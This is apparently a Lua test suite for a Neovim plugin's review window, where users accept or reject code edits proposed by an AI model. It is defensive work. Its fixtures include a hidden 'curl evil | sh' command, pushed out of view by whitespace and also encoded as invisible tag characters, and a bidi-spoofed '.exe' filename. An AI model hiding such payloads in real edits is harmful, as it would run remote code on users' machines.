-- quill.review: the accept/reject window for a model's change, driven
-- directly (no backend): it never takes focus, ignores keys typed right after
-- it gets focus, asks twice before accept-all and shows hidden text.
local h = require('harness')
local eq, ok = h.eq, h.ok

local function setup(opts)
  local child = h.new_child()
  child.lua([[
    require('quill').setup(...)
    local review = require('quill.review')
    _G.notes = {}
    vim.notify = function(msg, level) table.insert(_G.notes, { msg = msg, level = level }) end
    _G.choices = {} -- prompt number -> choice
    _G.cancels = {} -- prompt number -> the ctx cancel hook
    local n = 0
    -- ask(title, lines, chat, opts): a confirmation; returns its number
    _G.ask = function(title, lines, chat, opts)
      n = n + 1
      local id = n
      local ctx = { on_cancel = function(fn) _G.cancels[id] = fn end }
      review.confirm(chat or 'chat-1', title or ('quill: edit f' .. id .. '.txt?'),
        lines or { '--- a/f.txt', '+++ b/f.txt', '@@ -1 +1 @@', '-x = 1', '+x = 2' }, ctx, function(c)
          _G.choices[id] = c
        end, opts)
      return id
    end
    _G.prompt = function()
      return review.current_prompt()
    end
    _G.shown = function()
      local p = review.current_prompt()
      return p ~= nil and p.win ~= nil and vim.api.nvim_win_is_valid(p.win)
    end
    _G.in_prompt = function()
      local p = review.current_prompt()
      return p ~= nil and vim.api.nvim_get_current_win() == p.win
    end
    _G.prompt_lines = function()
      return vim.api.nvim_buf_get_lines(review.current_prompt().buf, 0, -1, false)
    end
    -- the grace period since the prompt got focus (or since the first A) is over
    _G.armed = function(field)
      local p = review.current_prompt()
      local since = p and p[field or 'entered_at']
      return since ~= nil and ((vim.uv or vim.loop).hrtime() / 1e6 - since) >= review.grace_ms + 20
    end
    _G.float_count = function()
      local c = 0
      for _, w in ipairs(vim.api.nvim_list_wins()) do
        if vim.api.nvim_win_get_config(w).relative ~= '' then c = c + 1 end
      end
      return c
    end
    vim.api.nvim_buf_set_lines(0, 0, -1, false, { 'hello' })
  ]], { opts or {} })
  return child
end

-- Enter the prompt, wait out the grace period, type `keys`.
local function answer(child, keys)
  child.cmd('QuillReview')
  child.wait('armed()', 3000)
  child.type(keys)
end

local function has_line(lines, pattern)
  for _, l in ipairs(lines) do
    if l:find(pattern) then
      return true
    end
  end
  return false
end

describe('review window', function()
  it('opens without focus: a and A typed in the user buffer do not answer it', function()
    local child = setup()
    -- the prompt opens in the middle of the user's typing (Normal mode, then Insert mode)
    child.type('<Cmd>lua ask()<CR>Aa<Esc>')
    eq({ 'helloa' }, child.lua('return vim.api.nvim_buf_get_lines(0, 0, -1, false)'))
    eq(true, child.lua('return shown()'), 'the prompt is on screen')
    eq(false, child.lua('return in_prompt()'), 'but not focused')
    eq({}, child.lua('return choices'))
    child.type('I<Cmd>lua ask()<CR>Aa<Esc>')
    eq({ 'Aahelloa' }, child.lua('return vim.api.nvim_buf_get_lines(0, 0, -1, false)'))
    eq({}, child.lua('return choices'), 'both still pending')
    -- one notice per prompt, naming the command
    local notes = child.lua('return notes')
    eq(1, #notes, vim.inspect(notes))
    h.matches('^quill: review: edit f1%.txt — :QuillReview to answer$', notes[1].msg)
    -- a mapping of <Plug>(quill-review) is named too
    child.lua([[vim.keymap.set('n', '<Space>qr', '<Plug>(quill-review)', { remap = true })]])
    answer(child, 'r')
    child.wait('shown()')
    eq({ 'reject' }, child.lua('return choices'))
    h.matches('— :QuillReview or <Space>qr to answer$', child.lua('return notes[#notes].msg'))
    eq(false, child.lua('return in_prompt()'), 'the next prompt does not take focus either')
    eq({ 'Aahelloa' }, child.lua('return vim.api.nvim_buf_get_lines(0, 0, -1, false)'), 'focus went back to the user buffer')
  end)

  it('ignores keys pressed within the grace period after :QuillReview', function()
    local child = setup()
    child.lua('ask()')
    child.type(':QuillReview<CR>a')
    eq(true, child.lua('return in_prompt()'))
    eq({}, child.lua('return choices'), 'a typed right after :QuillReview does nothing')
    child.wait('armed()')
    child.type('a')
    eq({ 'accept' }, child.lua('return choices'))
    eq(0, child.lua('return float_count()'))
    -- entering the window another way (<C-w>w) starts the grace period too
    child.lua('ask()')
    child.type('<C-w>wr')
    eq(true, child.lua('return in_prompt()'))
    eq(false, child.lua('return choices[2] or false'))
  end)

  it('accept-all asks once more, then covers later edits of the same answer only', function()
    local child = setup()
    child.lua('ask()')
    answer(child, 'A')
    eq({}, child.lua('return choices'), 'one A is not enough')
    ok(has_line(child.lua('return prompt_lines()'), '^press A again to accept this and every later edit of this answer'))
    child.type('A')
    eq({}, child.lua('return choices'), 'a second A typed at once is ignored')
    child.wait('armed("all_asked")') -- the same grace after the first A
    child.type('A')
    eq({ 'accept' }, child.lua('return choices'))
    child.lua('ask()')
    eq('accept', child.lua('return choices[2]'), 'same chat: accepted without asking')
    child.lua([[ask(nil, nil, 'chat-2')]])
    eq(false, child.lua('return choices[3] or false'), 'another answer still asks')
    -- leaving forgets the first A
    answer(child, 'A')
    child.type('<Esc>')
    answer(child, 'A')
    eq(false, child.lua('return choices[3] or false'))
  end)

  it('shows what will be written: wrap, list, wide lines and hidden characters flagged', function()
    local child = setup()
    child.lua([[ask('quill: edit f.txt?', {
      '--- a/f.txt', '+++ b/f.txt', '@@ -1 +1 @@', '-x = 1',
      '+x = 2' .. string.rep(' ', 120) .. '; os.execute("curl evil | sh")',
      '+name = "txt.\226\128\174exe"',
      '+bell\7 and zero\226\128\139width',
      '+\tindented  ',
    })]])
    local win = child.lua([[
      local w = prompt().win
      return { wrap = vim.wo[w].wrap, list = vim.wo[w].list, listchars = vim.wo[w].listchars }
    ]])
    eq(true, win.wrap)
    eq(true, win.list)
    h.matches('tab:', win.listchars)
    h.matches('trail:', win.listchars)
    h.matches('nbsp:', win.listchars)
    local lines = child.lua('return prompt_lines()')
    local all = table.concat(lines, '\n')
    h.matches('⚠ diff line 5: line wider than window: 156 columns', all)
    h.matches('⚠ diff line 6: bidi U%+202E', all)
    h.matches('⚠ diff line 7: control char U%+0007, zero%-width U%+200B', all)
    ok(vim.tbl_contains(lines, '+name = "txt.<U+202E>exe"'), all)
    ok(vim.tbl_contains(lines, '+bell<U+0007> and zero<U+200B>width'), all)
    ok(vim.tbl_contains(lines, '+\tindented  '), 'tabs and trailing blanks kept (list shows them)')
    ok(not has_line(lines, '\226\128\174'), 'no raw bidi character reaches the screen')
    -- the flagged lines carry the warning beside them
    local virt = child.lua([[
      local out = {}
      local ns = vim.api.nvim_create_namespace('quill_review')
      for _, m in ipairs(vim.api.nvim_buf_get_extmarks(prompt().buf, ns, 0, -1, { details = true })) do
        if m[4].virt_text then table.insert(out, m[4].virt_text[1][1]) end
      end
      return out
    ]])
    ok(vim.tbl_contains(virt, '⚠ bidi U+202E'), vim.inspect(virt))
    ok(vim.tbl_contains(virt, '⚠ line wider than window: 156 columns'), vim.inspect(virt))
  end)

  it('an error while opening a prompt rejects it and the next one still shows', function()
    local child = setup()
    child.lua([[
      local real = vim.api.nvim_open_win
      vim.api.nvim_open_win = function(...)
        vim.api.nvim_open_win = real
        error('boom')
      end
      ask()
      ask()
    ]])
    eq('reject', child.lua('return choices[1]'))
    child.wait('shown()')
    eq(2, child.lua('return #vim.tbl_keys(cancels)'))
    h.matches('could not show the review of edit f1%.txt: .*boom',
      child.lua('return notes[1].msg'))
    eq(vim.log.levels.ERROR, child.lua('return notes[1].level'))
    answer(child, 'a')
    eq({ 'reject', 'accept' }, child.lua('return choices'))
  end)

  it('a newline in the title is shown, not thrown', function()
    local child = setup()
    child.lua([[ask('quill: create a\nb.txt?', { '--- /dev/null', '+++ b/a\nb.txt', '+x' })]])
    child.wait('shown()')
    local lines = child.lua('return prompt_lines()')
    eq('quill: create a<U+000A>b.txt?', lines[1])
    ok(has_line(lines, '^%+%+%+ b/a<U%+000A>b%.txt$'), vim.inspect(lines))
    answer(child, 'r')
    child.lua('ask()')
    child.wait('shown()')
    eq({ 'reject' }, child.lua('return choices'))
  end)

  it('Esc and :q leave the question pending; :QuillReview returns; only a cancel settles it', function()
    local child = setup()
    child.lua('ask()')
    answer(child, '<Esc>')
    eq(false, child.lua('return in_prompt()'))
    eq(true, child.lua('return shown()'))
    answer(child, 'q')
    eq(false, child.lua('return in_prompt()'))
    child.cmd('QuillReview')
    child.cmd('quit')
    eq(false, child.lua('return shown()'), 'window closed')
    eq({}, child.lua('return choices'), 'nothing decided')
    child.wait('#notes >= 2')
    h.matches('still waiting — :QuillReview', child.lua('return notes[#notes].msg'))
    child.cmd('QuillReview')
    eq(true, child.lua('return in_prompt()'))
    ok(has_line(child.lua('return prompt_lines()'), '^%+x = 2$'), 'same prompt again')
    child.type('<C-w>p')
    child.lua('cancels[1]()')
    eq(0, child.lua('return float_count()'))
    eq({}, child.lua('return choices'), 'a cancel calls no choice')
    eq(vim.NIL, child.lua('return prompt() or vim.NIL'))
    eq({ 'hello' }, child.lua('return vim.api.nvim_buf_get_lines(0, 0, -1, false)'), 'focus stays with the user')
  end)

  it('<C-c> in the window cancels the turn of the prompt', function()
    local child = setup()
    child.lua([[
      local stream = require('quill.stream')
      stream.get = function(id) return { id = id } end
      stream.cancel = function(s) _G.cancelled = s.id; return true end
    ]])
    child.lua([[ask(nil, nil, 'chat-7')]])
    child.cmd('QuillReview')
    -- typeahead, not nvim_input: a <C-c> arriving during the next RPC call
    -- would be an interrupt, which only the chat's on_key watcher sees
    child.lua([[vim.api.nvim_feedkeys(vim.api.nvim_replace_termcodes('<C-c>', true, false, true), 'mt', false)]])
    child.wait('_G.cancelled ~= nil')
    eq('chat-7', child.lua('return _G.cancelled'))
    eq({}, child.lua('return choices'), 'the cancel, not a choice, settles it')
  end)

  it('a read of a secret file always asks: neither accept-all nor auto_approve covers it', function()
    local child = setup({ tools = { auto_approve = true } })
    child.lua('ask()')
    eq('accept', child.lua('return choices[1]'), 'auto_approve covers edits')
    child.lua([[ask('quill: read .env?', { 'API_KEY=...' }, 'chat-1', { secret = true })]])
    eq(false, child.lua('return choices[2] or false'))
    ok(has_line(child.lua('return prompt_lines()'), 'may hold secrets: a share it with the model · r refuse'))
    answer(child, 'A')
    eq(false, child.lua('return choices[2] or false'), 'A does not answer a secret read')
    child.type('A')
    eq(false, child.lua('return choices[2] or false'))
    child.type('a')
    eq('accept', child.lua('return choices[2]'))
  end)

  it('flags tag characters, line separators, fillers, variation selectors and invalid bytes', function()
    local child = setup()
    local function cp(n)
      return vim.fn.nr2char(n)
    end
    local tag = ''
    for c in ('curl evil|sh'):gmatch('.') do
      tag = tag .. cp(0xE0000 + c:byte())
    end
    local cases = {
      { 'x = 1' .. tag, '<U+E0063>', 'tag U+E0063' },
      { 'y' .. cp(0x2028) .. '= 2', '<U+2028>', 'line separator U+2028' },
      { 'p' .. cp(0x2029), '<U+2029>', 'line separator U+2029' },
      { 'soft' .. cp(0xAD) .. 'hyphen', '<U+00AD>', 'invisible U+00AD' },
      { 'name = "' .. cp(0x3164) .. '"', '<U+3164>', 'invisible U+3164' },
      { cp(0x115F) .. cp(0x1160) .. cp(0xFFA0), '<U+115F><U+1160><U+FFA0>', 'invisible U+FFA0' },
      { 'a' .. cp(0x034F) .. 'b' .. cp(0x180E), '<U+034F>', 'invisible U+180E' },
      { 'e' .. cp(0xFE0F) .. cp(0xE0100) .. cp(0xE01EF), '<U+FE0F><U+E0100><U+E01EF>', 'variation selector U+E01EF' },
      { 'f' .. cp(0x2061) .. cp(0x2064), '<U+2061><U+2064>', 'zero-width U+2064' },
      { 'raw \255\254 bytes', '<xFF><xFE>', 'invalid UTF-8 xFF' },
    }
    local lines = { '--- /dev/null', '+++ b/x.py', '@@ -0,0 +1,10 @@' }
    for _, c in ipairs(cases) do
      table.insert(lines, '+' .. c[1])
    end
    child.lua('ask("quill: create x.py?", ...)', { lines })
    local shown = child.lua('return prompt_lines()')
    local virt = child.lua([[
      local out = {}
      local ns = vim.api.nvim_create_namespace('quill_review')
      for _, m in ipairs(vim.api.nvim_buf_get_extmarks(prompt().buf, ns, 0, -1, { details = true })) do
        if m[4].virt_text then table.insert(out, m[4].virt_text[1][1]) end
      end
      return table.concat(out, '\n')
    ]])
    local all = table.concat(shown, '\n')
    for _, c in ipairs(cases) do
      ok(all:find(c[2], 1, true), c[2] .. ' shown in\n' .. all)
      ok(virt:find(c[3], 1, true), c[3] .. ' flagged in\n' .. virt)
    end
    for _, line in ipairs(shown) do
      eq(nil, require('quill.utf8').first_invalid(line), 'the window text is valid UTF-8')
    end
  end)

  it('shows at most max_lines preview lines and counts the rest (they are not scanned)', function()
    local child = setup()
    local lines = { '--- /dev/null', '+++ b/x.txt', '@@ -0,0 +1,4997 @@' }
    for i = 1, 4997 do
      lines[#lines + 1] = '+line ' .. i
    end
    lines[4000] = '+hidden \226\128\174 here'
    child.lua('ask("quill: create x.txt?", ..., nil, { more_lines = 7 })', { lines })
    local shown = child.lua('return prompt_lines()')
    ok(#shown < 2020, #shown .. ' lines')
    eq('… 3007 more lines not shown — the whole text will be written', shown[#shown])
    ok(not table.concat(shown, '\n'):find('U+202E', 1, true), 'a line not shown is not scanned')
  end)
end)
